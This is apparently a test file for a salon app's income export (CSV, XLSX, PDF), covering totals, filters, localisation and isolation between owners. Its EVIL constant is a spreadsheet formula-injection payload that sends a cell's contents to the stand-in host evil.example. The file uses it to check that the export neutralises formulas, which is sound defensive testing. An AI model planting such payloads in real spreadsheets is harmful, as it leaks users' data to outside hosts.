import ExcelJS from 'exceljs';
import { loggedIn, testApp, type Agent, type TestApp } from '../../helpers/app';
import { pdfPages } from '../../helpers/pdf-text';
import { book, checkout, newClient, newService } from '../../helpers/payments-studio';

let t: TestApp;
let owner: Agent;
let ownerId: number;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

beforeAll(async () => {
  t = await testApp();
  let user: { id: number };
  ({ agent: owner, user } = await loggedIn(t.app, { plan_name: 'Business Monthly' }));
  ownerId = user.id;
  await t.app.db
    .updateTable('users')
    .set({ settings: JSON.stringify({ invoiceSettings: { business_name: 'Hart Hair Studio' } }) })
    .where('id', '=', ownerId)
    .execute();
  const service = await newService(owner, 3500);
  const ann = await newClient(owner, 'Ann');
  const evil = await newClient(owner, EVIL);
  const a = await book(owner, service, [ann], '2026-03-02');
  await checkout(owner, { client_id: ann, appointment_ids: [a], payments: [{ method: 'cash', amount: 3500 }] });
  await checkout(owner, { client_id: evil, payments: [{ method: 'card', amount: 1250 }] });
  const refunded = await checkout(owner, { client_id: ann, payments: [{ method: 'bank_transfer', amount: 700 }] });
  const refund = await owner.request('DELETE', `/api/v1/payments/${refunded.body.data.payments[0].id}`, {
    reason: 'Mistake',
  });
  expect(refund.statusCode).toBe(200);
  // Another owner's money, which no export of this owner's may show.
  const { agent: other } = await loggedIn(t.app, { plan_name: 'Business Monthly' });
  const stranger = await newClient(other, 'Stranger');
  await checkout(other, { client_id: stranger, payments: [{ method: 'cash', amount: 99_900 }] });
});
afterAll(async () => t.close());

const exported = (agent: Agent, body: Record<string, unknown>) => agent.post('/api/v1/payments/export', body);

async function xlsxRows(body: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as never);
  const rows: unknown[][] = [];
  workbook.getWorksheet('income')!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('POST /api/v1/payments/export', () => {
  it('writes the income as CSV: every payment and refund, money in pounds, the totals under it', async () => {
    const res = await exported(owner, { format: 'csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="income-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe('Date,Client,Type,Method,Amount (GBP),Note');
    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2},Ann Ledger,Appointment,Cash,35,$/);
    expect(res.body).toContain(',Ann Ledger,Standalone,Bank transfer,7,');
    expect(res.body).toContain(',Ann Ledger,Standalone,Bank transfer,-7,Refund: Mistake');
    expect(lines.slice(-3)).toEqual(['Payments,,,,54.5,', 'Refunds,,,,-7,', 'Income,,,,47.5,']);
    expect(res.body).not.toContain('Stranger');
    expect(res.body).not.toContain('999');
  });

  it('neutralises a client name that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
    const csv = (await exported(owner, { format: 'csv' })).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
    const rows = await xlsxRows((await exported(owner, { format: 'xlsx' })).rawPayload);
    const evil = rows.find((r) => String(r[1]).includes('HYPERLINK'))!;
    expect(evil[1]).toBe(`'${EVIL} Ledger`);
  });

  it('writes the income as XLSX with numbers as numbers and the totals, read back by exceljs', async () => {
    const res = await exported(owner, { format: 'xlsx' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const rows = await xlsxRows(res.rawPayload);
    expect(rows[0]).toEqual(['Date', 'Client', 'Type', 'Method', 'Amount (GBP)', 'Note']);
    expect(rows[1].slice(1)).toEqual(['Ann Ledger', 'Appointment', 'Cash', 35]);
    expect(rows[4].slice(3)).toEqual(['Bank transfer', -7, 'Refund: Mistake']);
    expect(rows.slice(-3).map((r) => [r[0], r[4]])).toEqual([
      ['Payments', 54.5],
      ['Refunds', -7],
      ['Income', 47.5],
    ]);
  });

  it('keeps to the period asked for', async () => {
    const lines = (await exported(owner, { format: 'csv', from: '2000-01-01', to: '2000-12-31' })).body.split('\n');
    expect(lines.slice(-4, -1)).toEqual(['Payments,,,,0,', 'Refunds,,,,0,', 'Income,,,,0,']);
    expect(lines).toHaveLength(6);
  });

  it('takes one type and a client search, like the list', async () => {
    const standalone = (await exported(owner, { format: 'csv', type: 'standalone' })).body;
    expect(standalone).not.toContain('Appointment,Cash');
    expect(standalone).toContain('Bank transfer');
    const ann = (await exported(owner, { format: 'csv', search: 'ann led' })).body;
    expect(ann).not.toContain('HYPERLINK');
    expect(ann).toContain('Ann Ledger');
    expect((await exported(owner, { format: 'csv', search: '%' })).body.trim().split('\n')).toHaveLength(5);
  });

  it('prints a PDF with the business name, the period, the rows and the totals', async () => {
    const res = await exported(owner, { format: 'pdf', from: '2026-01-01', to: '2099-12-31' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const text = pdfPages(res.rawPayload).join('\n');
    for (const part of ['Income', 'Hart Hair Studio', '1 Jan 2026 – 31 Dec 2099', 'Ann Ledger', '£35.00', 'Mistake'])
      expect(text).toContain(part);
    expect(text).toMatch(/Payments\s*£54\.50/);
    expect(text).toMatch(/Refunds\s*-£7\.00/);
    expect(text).toMatch(/Income\s*£47\.50/);
    expect(text).not.toContain('Stranger');
  });

  it('writes headings and words in Ukrainian for an owner reading the app in it', async () => {
    owner.locale = 'uk';
    try {
      const text = pdfPages((await exported(owner, { format: 'pdf' })).rawPayload).join('\n');
      for (const part of ['Дохід', 'Клієнт', 'Спосіб', 'Готівка', 'Повернення', 'Усі дати', 'Сторінка 1'])
        expect(text).toContain(part);
      const csv = (await exported(owner, { format: 'csv' })).body;
      expect(csv.split('\n')[0]).toBe('Дата,Клієнт,Тип,Спосіб,Сума (GBP),Примітка');
    } finally {
      owner.locale = 'en';
    }
  });

  it('shows another owner only their own rows', async () => {
    const { agent: third } = await loggedIn(t.app, { plan_name: 'Business Monthly' });
    const lines = (await exported(third, { format: 'csv' })).body.trim().split('\n');
    expect(lines).toEqual([
      'Date,Client,Type,Method,Amount (GBP),Note',
      '',
      'Payments,,,,0,',
      'Refunds,,,,0,',
      'Income,,,,0,',
    ]);
  });

  it('refuses a wrong format or a period that ends before it starts, in words', async () => {
    expect((await exported(owner, { format: 'doc' })).statusCode).toBe(422);
    const backwards = await exported(owner, { format: 'csv', from: '2026-03-02', to: '2026-03-01' });
    expect(backwards.statusCode).toBe(422);
    expect(backwards.json().errors.to).toEqual(['The end of the period cannot be before its start.']);
  });

  it('reads the rows in batches: an export longer than a batch keeps every row once, in date order', async () => {
    const { agent: busy, user } = await loggedIn(t.app, { plan_name: 'Business Monthly' });
    const now = new Date().toISOString();
    const rows = Array.from({ length: 2345 }, (_, i) => ({
      user_id: user.id,
      type: 'standalone',
      method: 'cash',
      amount: i + 1,
      currency: 'gbp',
      date: `2026-0${1 + (i % 9)}-1${i % 10}`,
      created_at: now,
    }));
    for (let i = 0; i < rows.length; i += 500)
      await t.app.db
        .insertInto('payments')
        .values(rows.slice(i, i + 500))
        .execute();
    const lines = (await exported(busy, { format: 'csv' })).body.trim().split('\n');
    const body = lines.slice(1, -4);
    expect(body).toHaveLength(2345);
    const dates = body.map((l) => l.slice(0, 10));
    expect([...dates].sort()).toEqual(dates);
    expect(new Set(body.map((l) => l.split(',')[4])).size).toBe(2345);
    expect(lines.at(-3)).toBe(`Payments,,,,${(2345 * 2346) / 2 / 100},`);
  });
});
